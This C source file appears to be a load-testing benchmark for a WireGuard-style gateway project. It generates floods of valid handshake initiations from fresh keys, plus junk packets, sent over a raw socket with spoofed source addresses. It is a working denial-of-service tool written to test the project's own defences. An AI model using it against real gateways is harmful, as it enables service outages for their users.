// SPDX-License-Identifier: MIT
/* Copyright (C) 2026 wggwd authors */
/*
 * flood-gen: a fresh-key initiation flood, as anyone who knows a gateway's
 * public key can send (issue 14). Mints `rate * seconds` authenticated
 * initiations, each from a fresh static key (PROTOCOL.md (b), the
 * initiator's side; one ephemeral per 64 to mint faster: nobody checks),
 * on every core first, then sends them evenly paced (1 ms ticks), plus
 * `garbage` per second of random 148-byte type-1 packets (wrong mac1), from
 * `sources` addresses of 10.250.0.0/16 (raw IPv4 socket: run it in a
 * namespace whose replies go nowhere), to DST:PORT.
 *
 *   flood-gen GW_PUBKEY_B64 DST PORT RATE GARBAGE SECONDS SOURCES
 *
 * Prints "minted N in S s" then, at the end, one JSON line: what was sent.
 * Build: cc -O2 -pthread bench/flood_gen.c $(pkg-config --cflags --libs
 * libsodium libb2) -o flood-gen
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <blake2.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <sodium.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define INIT_LEN 148
#define PKT_LEN (20 + 8 + INIT_LEN)
#define BURST 64
#define N_JUNK 1024

static uint8_t rpub[32], mac1_key[32], ck0[32], h0[32];
static uint8_t (*pool)[INIT_LEN];
static size_t n_pool;

static void hash2(uint8_t out[32], const void *a, size_t alen, const void *b, size_t blen)
{
	blake2s_state s;

	blake2s_init(&s, 32);
	blake2s_update(&s, a, alen);
	if (blen)
		blake2s_update(&s, b, blen);
	blake2s_final(&s, out, 32);
}

static void hmac(uint8_t out[32], const uint8_t key[32], const void *in, size_t len)
{
	uint8_t pad[64], inner[32];
	int i;

	memset(pad, 0, sizeof(pad));
	memcpy(pad, key, 32);
	for (i = 0; i < 64; i++)
		pad[i] ^= 0x36;
	hash2(inner, pad, 64, in, len);
	for (i = 0; i < 64; i++)
		pad[i] ^= 0x36 ^ 0x5c;
	hash2(out, pad, 64, inner, 32);
}

/* (ck, k) = KDF2(ck, in); k may be NULL (KDF1) */
static void kdf(uint8_t ck[32], uint8_t *k, const uint8_t *in, size_t len)
{
	uint8_t t0[32], t1[33], t2[32];

	hmac(t0, ck, in, len);
	t1[0] = 1;
	hmac(t1, t0, t1, 1);
	if (k) {
		t1[32] = 2;
		hmac(t2, t0, t1, 33);
		memcpy(k, t2, 32);
	}
	memcpy(ck, t1, 32);
}

static void tai64n_now(uint8_t out[12])
{
	struct timespec ts;
	uint64_t sec;
	uint32_t ns;
	int i;

	clock_gettime(CLOCK_REALTIME, &ts);
	sec = 0x400000000000000aull + (uint64_t)ts.tv_sec;
	ns = (uint32_t)ts.tv_nsec;
	for (i = 0; i < 8; i++)
		out[i] = sec >> (56 - 8 * i);
	for (i = 0; i < 4; i++)
		out[8 + i] = ns >> (24 - 8 * i);
}

struct eph {
	uint8_t pub[32], ck[32], k[32], h[32]; /* after "es" */
};

static void eph_new(struct eph *e)
{
	uint8_t priv[32], dh[32];

	randombytes_buf(priv, 32);
	crypto_scalarmult_base(e->pub, priv);
	memcpy(e->ck, ck0, 32);
	hash2(e->h, h0, 32, rpub, 32);
	kdf(e->ck, NULL, e->pub, 32);
	hash2(e->h, e->h, 32, e->pub, 32);
	if (crypto_scalarmult(dh, priv, rpub))
		abort();
	kdf(e->ck, e->k, dh, 32);
}

static void mint(uint8_t pkt[INIT_LEN], const struct eph *e)
{
	static const uint8_t nonce[12];
	uint8_t ck[32], h[32], k[32], dh[32], spriv[32], spub[32], tai[12];
	uint32_t sender;

	randombytes_buf(spriv, 32);
	crypto_scalarmult_base(spub, spriv);
	memset(pkt, 0, INIT_LEN);
	pkt[0] = 1;
	sender = randombytes_random();
	memcpy(pkt + 4, &sender, 4);
	memcpy(pkt + 8, e->pub, 32);
	memcpy(ck, e->ck, 32);
	memcpy(h, e->h, 32);
	crypto_aead_chacha20poly1305_ietf_encrypt(pkt + 40, NULL, spub, 32, h, 32, NULL, nonce,
						  e->k);
	hash2(h, h, 32, pkt + 40, 48);
	if (crypto_scalarmult(dh, spriv, rpub))
		abort();
	kdf(ck, k, dh, 32);
	tai64n_now(tai);
	crypto_aead_chacha20poly1305_ietf_encrypt(pkt + 88, NULL, tai, 12, h, 32, NULL, nonce, k);
	blake2s(pkt + 116, pkt, mac1_key, 16, 116, 32);
}

struct job {
	size_t from, to;
};

static void *minter(void *arg)
{
	struct job *j = arg;
	struct eph e;
	size_t i;

	for (i = j->from; i < j->to; i++) {
		if ((i - j->from) % 64 == 0)
			eph_new(&e);
		mint(pool[i], &e);
	}
	return NULL;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

struct sender {
	int fd;
	struct sockaddr_in dst;
	unsigned sources;
	uint64_t seq;
	uint8_t buf[BURST][PKT_LEN];
	struct iovec iov[BURST];
	struct mmsghdr mm[BURST];
	unsigned n;
	uint64_t sent, failed;
};

static void put(struct sender *s, const uint8_t *init)
{
	uint8_t *b = s->buf[s->n];
	struct iphdr *ip = (struct iphdr *)b;
	struct udphdr *uh = (struct udphdr *)(b + 20);
	unsigned j = 1 + s->seq++ % s->sources;

	memset(b, 0, 28);
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons(PKT_LEN);
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = htonl(0x0afa0000u | j);
	ip->daddr = s->dst.sin_addr.s_addr;
	uh->source = htons(1024 + (uint16_t)(s->seq * 7919 % 60000));
	uh->dest = s->dst.sin_port;
	uh->len = htons(8 + INIT_LEN); /* checksum 0: none (IPv4) */
	memcpy(b + 28, init, INIT_LEN);
	s->iov[s->n] = (struct iovec){ b, PKT_LEN };
	s->mm[s->n].msg_hdr = (struct msghdr){ .msg_name = &s->dst,
					       .msg_namelen = sizeof(s->dst),
					       .msg_iov = &s->iov[s->n], .msg_iovlen = 1 };
	if (++s->n == BURST) {
		int r = sendmmsg(s->fd, s->mm, s->n, 0);

		s->sent += r > 0 ? (unsigned)r : 0;
		s->failed += s->n - (r > 0 ? (unsigned)r : 0);
		s->n = 0;
	}
}

static void flush(struct sender *s)
{
	int r;

	if (!s->n)
		return;
	r = sendmmsg(s->fd, s->mm, s->n, 0);
	s->sent += r > 0 ? (unsigned)r : 0;
	s->failed += s->n - (r > 0 ? (unsigned)r : 0);
	s->n = 0;
}

int main(int argc, char **argv)
{
	static uint8_t junk[N_JUNK][INIT_LEN];
	double rate, garbage, secs, t0, t;
	size_t b64len, i, nthreads;
	uint64_t want_v, want_g, sent_v = 0, sent_g = 0;
	struct sender s = { 0 };
	pthread_t th[64];
	struct job jobs[64];
	int one = 1;

	if (argc != 8) {
		fprintf(stderr, "usage: %s GW_PUBKEY DST PORT RATE GARBAGE SECONDS SOURCES\n",
			argv[0]);
		return 2;
	}
	if (sodium_init() < 0 ||
	    sodium_base642bin(rpub, 32, argv[1], strlen(argv[1]), NULL, &b64len, NULL,
			      sodium_base64_VARIANT_ORIGINAL) || b64len != 32) {
		fprintf(stderr, "bad public key\n");
		return 2;
	}
	s.dst.sin_family = AF_INET;
	if (inet_pton(AF_INET, argv[2], &s.dst.sin_addr) != 1)
		return 2;
	s.dst.sin_port = htons(atoi(argv[3]));
	rate = atof(argv[4]);
	garbage = atof(argv[5]);
	secs = atof(argv[6]);
	s.sources = atoi(argv[7]) > 0 ? atoi(argv[7]) : 1;
	if (s.sources > 65000)
		s.sources = 65000;

	hash2(ck0, "Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s", 37, NULL, 0);
	hash2(h0, ck0, 32, "WireGuard v1 zx2c4 Jason@zx2c4.com", 34);
	hash2(mac1_key, "mac1----", 8, rpub, 32);

	n_pool = (size_t)(rate * secs) + 1;
	pool = malloc(n_pool * INIT_LEN);
	if (!pool)
		return 1;
	t0 = now_s();
	nthreads = sysconf(_SC_NPROCESSORS_ONLN);
	if (nthreads < 1 || nthreads > 64)
		nthreads = 1;
	for (i = 0; i < nthreads; i++) {
		jobs[i].from = n_pool * i / nthreads;
		jobs[i].to = n_pool * (i + 1) / nthreads;
		pthread_create(&th[i], NULL, minter, &jobs[i]);
	}
	for (i = 0; i < nthreads; i++)
		pthread_join(th[i], NULL);
	randombytes_buf(junk, sizeof(junk));
	for (i = 0; i < N_JUNK; i++) {
		junk[i][0] = 1;
		junk[i][1] = junk[i][2] = junk[i][3] = 0;
	}
	printf("minted %zu in %.1f s\n", n_pool, now_s() - t0);
	fflush(stdout);

	s.fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s.fd < 0 || setsockopt(s.fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("raw socket");
		return 1;
	}
	printf("flooding\n");
	fflush(stdout);
	t0 = now_s();
	for (;;) {
		struct timespec tick = { 0, 1000000 };

		t = now_s() - t0;
		if (t >= secs)
			break;
		want_v = (uint64_t)(rate * t);
		want_g = (uint64_t)(garbage * t);
		while (sent_v < want_v || sent_g < want_g) {
			if (sent_v < want_v && sent_v < n_pool)
				put(&s, pool[sent_v]);
			if (sent_v < want_v)
				sent_v++;
			if (sent_g < want_g)
				put(&s, junk[sent_g++ % N_JUNK]);
		}
		flush(&s);
		nanosleep(&tick, NULL);
	}
	flush(&s);
	t = now_s() - t0;
	printf("{\"valid\": %llu, \"garbage\": %llu, \"sent\": %llu, \"failed\": %llu, \"seconds\": %.2f}\n",
	       (unsigned long long)sent_v, (unsigned long long)sent_g,
	       (unsigned long long)s.sent, (unsigned long long)s.failed, t);
	return 0;
}
